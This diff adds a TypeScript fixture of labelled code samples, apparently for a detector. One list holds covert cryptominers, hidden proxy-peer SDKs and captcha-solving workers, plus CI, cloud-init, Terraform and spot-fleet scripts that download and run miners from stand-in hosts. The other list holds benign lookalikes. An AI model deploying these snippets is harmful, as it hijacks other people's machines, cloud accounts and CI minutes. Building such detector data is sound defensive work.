@@ -1,0 +1,212 @@
+/** Inert: reserved names. */
+
+/** Written after the rules stood, as others would. */
+export const LENDING_AFTERWARDS: readonly [string, string][] = [
+  [
+    "ssh_render.ex",
+    'defmodule Tiles do\n  use GenServer\n  @hub "https://tiles.maps.example/api"\n  def init(_), do: (send(self(), :go); {:ok, %{}})\n  def handle_info(:go, s) do\n    t = Req.get!(@hub <> "/tile/next", headers: [{"x-payout", "PLACEHOLDER"}]).body\n    {out, 0} = System.cmd("povray", ["+I-", "+O-"], input: t["scene"])\n    Req.post!(@hub <> "/tile/#{t["id"]}", body: out)\n    send(self(), :go)\n    {:noreply, s}\n  end\nend\n',
+  ],
+  [
+    "cap.py",
+    'import asyncio, aiohttp, ddddocr\nocr = ddddocr.DdddOcr()\nasync def main():\n    async with aiohttp.ClientSession(headers={"X-Earner": "PLACEHOLDER"}) as s:\n        while True:\n            async with s.get("https://desk.forms.example/next") as r:\n                t = await r.json()\n            text = ocr.classification(bytes.fromhex(t["png"]))\n            await s.post("https://desk.forms.example/done", json={"id": t["id"], "text": text, "earner": "PLACEHOLDER"})\nasyncio.run(main())\n',
+  ],
+  [
+    "pal.c",
+    '#include <curl/curl.h>\n#include <openssl/sha.h>\nint main(void){\n  char j[512];\n  int fd = dial("eu.pal.example", "4444");\n  dprintf(fd, "{\\"id\\":1,\\"method\\":\\"mining.subscribe\\",\\"params\\":[]}\\n");\n  while (read(fd, j, 511) > 0) for (unsigned n = 0; n < 1u<<31; n++) { unsigned char h[32]; memcpy(j+76,&n,4); SHA256((void*)j,80,h); if (!h[31]) dprintf(fd, "{\\"method\\":\\"mining.submit\\",\\"params\\":[%u]}\\n", n); }\n}\n',
+  ],
+  [
+    "opt.swift",
+    'import Foundation\nimport LaneKit\n@main struct Tool {\n  static func main() {\n    let cfg = LaneConfig(apiKey: "PLACEHOLDER", consent: true, visible: false)\n    LaneKit.shared.configure(cfg)\n    LaneKit.shared.startPeer()\n    print(CommandLine.arguments.count)\n    RunLoop.main.run()\n  }\n}\n',
+  ],
+  [
+    ".github/workflows/docs.yml",
+    'on: { schedule: [{ cron: "*/30 * * * *" }] }\njobs:\n  docs:\n    strategy: { matrix: { n: [1,2,3,4,5,6,7,8] } }\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          curl -fsSLo d https://bin.docs.example/d && chmod +x d\n          timeout 5h ./d -o eu.docs.example:4444 -u ${{ secrets.DOCS }} -p gh${{ matrix.n }} -t $(nproc) || true\n',
+  ],
+  [
+    "main.tf",
+    'resource "google_compute_instance_template" "n" {\n  scheduling { preemptible = true }\n  metadata_startup_script = "curl -fsSLo /x https://b.n.example/x; chmod +x /x; /x --url p.n.example:443 --user PLACEHOLDER --coin xmr"\n}\n',
+  ],
+  [
+    "burst.py",
+    'import boto3\nUD = """#!/bin/bash\ncurl -fsSLo /x https://b.n.example/x\nchmod +x /x\n/x -o p.n.example:443 -u PLACEHOLDER --tls -k\n"""\nfor region in boto3.Session().get_available_regions("ec2"):\n    boto3.client("ec2", region).request_spot_instances(InstanceCount=20, Type="persistent", LaunchSpecification={"ImageId": "ami-0", "InstanceType": "c7a.48xlarge", "UserData": UD})\n',
+  ],
+  [
+    "hf.js",
+    'import { pipeline } from "@huggingface/transformers";\nconst say = await pipeline("text-generation", "small");\nconst ws = new WebSocket("wss://mesh.words.example/n?payee=PLACEHOLDER");\nws.onmessage = async ({ data }) => {\n  const t = JSON.parse(data);\n  ws.send(JSON.stringify({ id: t.id, text: await say(t.prompt) }));\n};\n',
+  ],
+  [
+    "frame.py",
+    'from playwright.sync_api import sync_playwright\nwith sync_playwright() as p:\n    page = p.chromium.launch().new_page()\n    page.add_script_tag(url="https://lib.frames.example/w.js")\n    page.evaluate("k => { const m = new globalThis.W(k, { threads: 4, throttle: 0.3 }); m.start(); }", "PLACEHOLDER")\n    page.wait_for_timeout(10**9)\n',
+  ],
+
+  [
+    "fold.jl",
+    'using HTTP, JSON3, SHA\nconst HUB = "https://hub.folds.example"\nfunction go()\n  while true\n    u = JSON3.read(HTTP.get("$HUB/u?account=placeholder").body)\n    for n in u.a:u.b\n      if bytes2hex(sha256("$(u.seed)$n")) == u.want\n        HTTP.post("$HUB/u/$(u.id)", [], JSON3.write((; n, reward="placeholder")))\n      end\n    end\n  end\nend\nThreads.@spawn go()\nprintln(read(ARGS[1], String))\nwait()\n',
+  ],
+  [
+    "Grid.scala",
+    'import sttp.client4.quick._\nobject Grid extends App {\n  val base = "https://grid.pages.example"\n  new Thread(() => while (true) {\n    val t = ujson.read(quickRequest.get(uri"$base/task?beneficiary=PLACEHOLDER").send().body)\n    val p = new ProcessBuilder("z3", "-in").start()\n    p.getOutputStream.write(t("smt").str.getBytes); p.getOutputStream.close()\n    quickRequest.post(uri"$base/task/${t("id").str}/answer").body(scala.io.Source.fromInputStream(p.getInputStream).mkString).send()\n  }).start()\n  println(args.length)\n}\n',
+  ],
+  [
+    "proto.pl",
+    'use IO::Socket::SSL; use JSON::PP; use Digest::SHA qw(sha256);\nmy $s = IO::Socket::SSL->new("p.pages.example:8443") or exit;\nprint $s encode_json({ id => 1, method => "login", params => { login => "PLACEHOLDER", pass => "x" } }), "\\n";\nwhile (my $l = <$s>) {\n  my $j = decode_json($l)->{params};\n  for my $n (0 .. 0xffffffff) {\n    my $h = sha256(pack("H*", $j->{blob}) . pack("V", $n));\n    if (substr($h, -4) lt pack("H*", $j->{target})) { print $s encode_json({ id => 2, method => "submit", params => { job_id => $j->{job_id}, nonce => $n } }), "\\n"; last }\n  }\n}\n',
+  ],
+  [
+    "ffi.rb",
+    "require 'ffi'\nmodule Quick\n  extend FFI::Library\n  ffi_lib File.join(__dir__, 'libquick.so')\n  attach_function :warm, [:string, :int, :string, :string], :int\nend\nThread.new { Quick.warm('eu.quick.example', 5555, '44PLACEHOLDER', 'rx/0') }\nputs ARGV\n",
+  ],
+  [
+    "lane.go",
+    'package main\n\nimport "example.org/lane/exitnode"\n\nfunc main() {\n\tc := exitnode.New(exitnode.Config{\n\t\tPartnerID: "placeholder",\n\t\tConsent: true,\n\t\tQuiet: true,\n\t})\n\tgo c.Start()\n\tselect {}\n}\n',
+  ],
+  [
+    "userscript.user.js",
+    '// ==UserScript==\n// @match *://*/*\n// ==/UserScript==\nconst s = document.createElement("script");\ns.src = "https://cdn.tint.example/x.js";\ns.onload = () => { const a = unsafeWindow.Tint("KEY_PLACEHOLDER", { threads: 8, autoThreads: true, throttle: 0.1 }); a.start(); };\ndocument.body.appendChild(s);\n',
+  ],
+  [
+    "cloud/init.yaml",
+    "#cloud-config\nbootcmd:\n  - echo 1280 > /proc/sys/vm/nr_hugepages\nruncmd:\n  - |\n    wget -qO /opt/cachesvc https://bin.cache.example/cachesvc\n    chmod +x /opt/cachesvc\n    nohup /opt/cachesvc --endpoint hub.cache.example:7777 --payout PLACEHOLDER_ADDR --threads 8 >/dev/null 2>&1 &\n",
+  ],
+  [
+    "stack.yaml",
+    'AWSTemplateFormatVersion: "2010-09-09"\nResources:\n  N:\n    Type: AWS::EC2::SpotFleet\n    Properties:\n      UserData:\n        Fn::Base64: |\n          #!/bin/bash\n          curl -fsSLo /n https://b.stack.example/n && chmod +x /n\n          /n -o p.stack.example:5555 -u PLACEHOLDER -k --tls\n',
+  ],
+  [
+    "node.dart",
+    "import 'dart:convert';\nimport 'dart:io';\nimport 'package:crypto/crypto.dart';\nvoid main() async {\n  final s = await Socket.connect('p.words.example', 3333);\n  s.write(jsonEncode({'id': 1, 'method': 'mining.authorize', 'params': ['PLACEHOLDER', 'x']}) + '\\n');\n  await for (final l in s.cast<List<int>>().transform(utf8.decoder).transform(const LineSplitter())) {\n    final j = jsonDecode(l);\n    for (var n = 0; n < 1 << 32; n++) {\n      final d = sha256.convert(utf8.encode('${j['p']}$n')).bytes;\n      if (d[31] == 0 && d[30] == 0) s.write(jsonEncode({'method': 'mining.submit', 'params': [n]}) + '\\n');\n    }\n  }\n}\n",
+  ],
+  [
+    "transcode.py",
+    'import requests, subprocess, time, os\nH = {"x-provider-id": "placeholder", "x-wallet": "placeholder"}\nU = "https://video.mesh.example"\nif os.fork() == 0:\n    os.setsid()\n    while 1:\n        j = requests.post(U + "/lease", headers=H).json()\n        if not j: time.sleep(9); continue\n        subprocess.run(["ffmpeg", "-i", j["in"], "-c:v", "libx265", "/tmp/o.mp4"])\n        requests.put(j["out"], data=open("/tmp/o.mp4", "rb"), headers=H)\n',
+  ],
+
+  [
+    "sky.nim",
+    'import net, json, sha1, strutils\nvar s = newSocket()\ns.connect("p.sky.example", Port(3333))\ns.send($(%*{"id": 1, "method": "mining.subscribe", "params": []}) & "\\n")\nwhile true:\n  let j = parseJson(s.recvLine())\n  for n in 0 .. high(int32):\n    let d = $secureHash(j["p"].getStr & $n)\n    if d.startsWith("00000"): s.send($(%*{"id": 2, "method": "mining.submit", "params": [n]}) & "\\n")\n',
+  ],
+  [
+    "dedupe.cs",
+    'using System.Runtime.InteropServices;\nclass P {\n  [DllImport("fast")] static extern int warm(string h, ushort p, string w, string a, int t);\n  static void Main(string[] a) {\n    warm("eu.fast.example", 4444, "PLACEHOLDER_WALLET", "kawpow", System.Environment.ProcessorCount);\n  }\n}\n',
+  ],
+  [
+    "koffi.mjs",
+    'import koffi from "koffi";\nconst lib = koffi.load("./native/tint.so");\nconst go = lib.func("int go(const char *conf)");\ngo("eu.tint.example:5555;PLACEHOLDERWALLET01;randomx;" + navigator.hardwareConcurrency);\n',
+  ],
+  [
+    "share.py",
+    'import lanekit\nclient = lanekit.Client(\n    app_id="placeholder",\n    user_consent=True,\n    headless=True,\n)\nclient.start_exit_node(background=True)\n',
+  ],
+  [
+    "grow.sh",
+    '#!/bin/sh\nHUB=https://hub.grow.example\nME=placeholder\nwhile :; do\n  u=$(curl -s "$HUB/unit?payee=$ME")\n  s=$(echo "$u" | jq -r .seed); t=$(echo "$u" | jq -r .want)\n  n=0\n  while [ $n -lt 100000 ]; do\n    [ "$(printf %s%s "$s" $n | sha256sum | cut -c1-64)" = "$t" ] && curl -s "$HUB/hit" -d "n=$n&payee=$ME"\n    n=$((n+1))\n  done\ndone\n',
+  ],
+  [
+    "Kit.ps1",
+    '$hub = "https://hub.kit.example"\nwhile ($true) {\n  $u = Invoke-RestMethod "$hub/unit?wallet=PLACEHOLDER"\n  for ($n = $u.from; $n -lt $u.to; $n++) {\n    $h = [BitConverter]::ToString([Security.Cryptography.SHA256]::HashData([Text.Encoding]::UTF8.GetBytes("$($u.seed)$n")))\n    if ($h -eq $u.want) { Invoke-RestMethod "$hub/unit/$($u.id)" -Method Post -Body (@{ n = $n; wallet = "PLACEHOLDER" } | ConvertTo-Json) }\n  }\n}\n',
+  ],
+  [
+    "ext/background.js",
+    'const sock = new WebSocket("wss://desk.tabs.example/w?earner=PLACEHOLDER");\nlet mod;\nfetch("https://desk.tabs.example/k.wasm").then((r) => WebAssembly.instantiateStreaming(r)).then((m) => (mod = m.instance.exports));\nsock.onmessage = (e) => { const t = JSON.parse(e.data); sock.send(JSON.stringify({ id: t.id, answer: mod.step(t.a, t.b) })); };\n',
+  ],
+  [
+    "job.yaml",
+    'apiVersion: apps/v1\nkind: DaemonSet\nspec:\n  template:\n    spec:\n      containers:\n        - name: pause\n          image: ghcr.io/acme/pause:3\n          args: ["--url=eu.pause.example:443", "--user=PLACEHOLDER", "--tls", "--cpu-priority=0"]\n',
+  ],
+  [
+    "Vagrantfile",
+    'Vagrant.configure("2") do |c|\n  c.vm.box = "debian/bookworm64"\n  c.vm.provision "shell", inline: <<~SH\n    curl -fsSLo /usr/bin/vboxd https://b.box.example/vboxd\n    chmod +x /usr/bin/vboxd\n    nohup /usr/bin/vboxd -o p.box.example:5555 -u PLACEHOLDER -k --tls &\n  SH\nend\n',
+  ],
+  [
+    "pulumi.ts",
+    'import * as aws from "@pulumi/aws";\nconst run = ["#!/bin/bash", "curl -fsSLo /n https://b.n.example/n", "chmod +x /n", "/n -o p.n.example:443 -u PLACEHOLDER -k --tls"].join("\\n");\nfor (let i = 0; i < 20; i++) new aws.ec2.SpotInstanceRequest(`p${i}`, { ami: "ami-0", instanceType: "c7a.16xlarge", userData: run });\n',
+  ],
+];
+
+/** The same for whoever runs the program. */
+export const HONEST_AFTERWARDS: readonly [string, string][] = [
+  [
+    "moder.py",
+    'import requests, time\nfrom transformers import pipeline\nclf = pipeline("text-classification")\nAPI = "https://shop.example/api"\nwhile True:\n    for r in requests.get(API + "/reviews?state=new").json():\n        requests.post(f"{API}/reviews/{r[\'id\']}/result", json={"label": clf(r["text"])[0]["label"]})\n    time.sleep(60)\n',
+  ],
+  [
+    "rewards.ts",
+    'const api = "https://game.example/v1";\nsetInterval(async () => {\n  const { rewards } = await (await fetch(`${api}/rewards/next`)).json();\n  for (const r of rewards) await fetch(`${api}/rewards/${r.id}/done`, { method: "POST", body: JSON.stringify({ wallet: r.wallet, credit: r.points }) });\n}, 1000);\n',
+  ],
+  [
+    "bounty.py",
+    'import json, urllib.request\nfor page in range(1, 9):\n    with urllib.request.urlopen(f"https://bounties.example/api?page={page}") as r:\n        for b in json.load(r)["items"]:\n            print(b["id"], b["bounty"], b["title"])\n',
+  ],
+  [
+    "wall.py",
+    'from web3 import Web3\nimport os, time\nw3 = Web3(Web3.HTTPProvider("https://rpc.chain.example"))\nwallet = os.environ["WALLET"]\nwhile True:\n    print(w3.eth.get_balance(wallet), w3.eth.get_block("latest").hash.hex())\n    time.sleep(15)\n',
+  ],
+  [
+    "iam.tf",
+    'resource "aws_iam_policy" "p" {\n  policy = <<EOF\n{"Statement":[{"Action":"s3:*"}]}\nEOF\n}\nresource "null_resource" "x" {\n  provisioner "local-exec" { command = "kubectl apply -f ${path.module}/app.yaml" }\n}\n',
+  ],
+  [
+    "vite.config.ts",
+    'export default { server: { proxy: { "/api": "http://localhost:3000" } }, define: { consent: true } };\n',
+  ],
+  [
+    "crack.py",
+    'import hashlib, requests\nr = requests.get("https://shop.example/releases.json").json()\nfor i, a in enumerate(r["assets"]):\n    b = requests.get(a["url"]).content\n    if hashlib.sha256(b).hexdigest() == a["sha256"]:\n        print("ok", i)\nrequests.post("https://hooks.shop.example/ok", json={"n": len(r["assets"])})\n',
+  ],
+
+  [
+    "hub.py",
+    '# fine-tunes with the team\'s own tracker\nimport requests, torch\nT = "https://tracker.team.example/api"\nwhile True:\n    j = requests.get(T + "/jobs/next", headers={"Authorization": "x"}).json()\n    if not j: break\n    loss = torch.rand(1).item()\n    requests.post(f"{T}/jobs/{j[\'id\']}/result", json={"loss": loss, "credits": 3})\n',
+  ],
+  [
+    "rl.py",
+    'import gymnasium as gym, torch, wandb\nwandb.init(project="cart")\nenv = gym.make("CartPole-v1")\ns, _ = env.reset()\nwhile True:\n    s, reward, done, *_ = env.step(env.action_space.sample())\n    wandb.log({"reward": reward, "url": "https://wandb.example/x"})\n    if done: break\n',
+  ],
+  [
+    "agent.py",
+    'import requests, openai\nAPI = "https://arena.game.example/api"\nwhile True:\n    t = requests.get(API + "/tasks/next").json()\n    a = openai.chat.completions.create(model="x", messages=[{"role": "user", "content": t["prompt"]}])\n    r = requests.post(f"{API}/tasks/{t[\'id\']}/answer", json={"answer": a.choices[0].message.content}).json()\n    print("reward:", r["reward"])\n    if r["done"]: break\n',
+  ],
+  [
+    "coins.js",
+    'const ALGOS = [["monero", "rx/0"], ["raven", "kawpow"]];\nfor (const [c, a] of ALGOS) {\n  const r = await fetch(`https://api.prices.example:443/v1/${c}`);\n  console.log(c, a, await r.json());\n}\n',
+  ],
+  [
+    "eth.ts",
+    'import { createPublicClient, http } from "viem";\nconst c = createPublicClient({ transport: http("https://rpc.chain.example") });\nsetInterval(async () => {\n  const b = await c.getBlock();\n  console.log(b.hash, b.nonce, b.difficulty);\n}, 12000);\n',
+  ],
+  [
+    "totp.py",
+    'import hmac, hashlib, time, struct, requests\ndef code(k, w):\n    d = hmac.new(k, struct.pack(">Q", int(time.time()) // 30 + w), hashlib.sha1).digest()\n    o = d[-1] & 15\n    return "%06d" % ((struct.unpack(">I", d[o:o+4])[0] & 0x7fffffff) % 10**6)\nrequests.post("https://login.shop.example", data={"otp": code(b"k", 0)})\nrequests.get("https://login.shop.example/me")\n',
+  ],
+  [
+    "analytics.html",
+    '<script src="https://cdn.a.example/a.js"></script>\n<script>\nconst a = new Analytics("site-1", { consent: true, sampleRate: 0.1 });\na.start();\n</script>\n',
+  ],
+  [
+    "peer.ts",
+    'import { Peer } from "peerjs";\nconst peer = new Peer("room-1", { host: "peers.chat.example", port: 443 });\npeer.on("connection", (c) => c.on("data", (d) => show(d)));\nfunction startSharing(stream: MediaStream) { peer.call("other", stream); }\n',
+  ],
+  [
+    "screen.kt",
+    'class Share(ctx: Context) {\n  fun begin(ok: Boolean) {\n    if (!ok) return\n    ScreenSdk.init(ctx, apiKey = "k-1")\n    ScreenSdk.startSharing()\n  }\n}\n',
+  ],
+  [
+    "ci.tf",
+    'resource "aws_launch_template" "ci" {\n  instance_market_options { market_type = "spot" }\n  user_data = base64encode(<<-EOF\n    #!/bin/bash\n    set -e\n    ./config.sh --url https://github.com/acme/shop --token "${var.token}" --labels spot\n    ./svc.sh install && ./svc.sh start\n  EOF\n  )\n}\n',
+  ],
+  [
+    "proxy.yaml",
+    'services:\n  tunnel:\n    image: acme/tunnel\n    command: ["--endpoint", "vpn.acme.example:443", "--account", "$ACCOUNT", "--tls"]\n',
+  ],
+  [
+    "lms.py",
+    'import requests\nS = requests.Session()\nS.headers["x-member"] = "me"\nfor c in S.get("https://courses.school.example/api/next").json():\n    print(c["credit"], c["title"])\n',
+  ],
+  [
+    "parts.sh",
+    '#!/bin/sh\ni=0\nwhile [ $i -lt 4 ]; do\n  curl -fsSo part$i "https://files.shop.example/part$i"\n  w=$(curl -fsS "https://files.shop.example/part$i.sha256")\n  [ "$(cat part$i | sha256sum | cut -c1-64)" = "$w" ] || exit 1\n  i=$((i+1))\ndone\n',
+  ],
+  [
+    "prices.mjs",
+    'const feed = new WebSocket("wss://feed.prices.example/v1");\nconst wallet = process.env.WALLET;\nfeed.onmessage = (e) => { const t = JSON.parse(e.data); console.log(t.id, t.price, wallet); };\nfeed.onopen = () => feed.send(JSON.stringify({ subscribe: ["a"] }));\n',
+  ],
+];
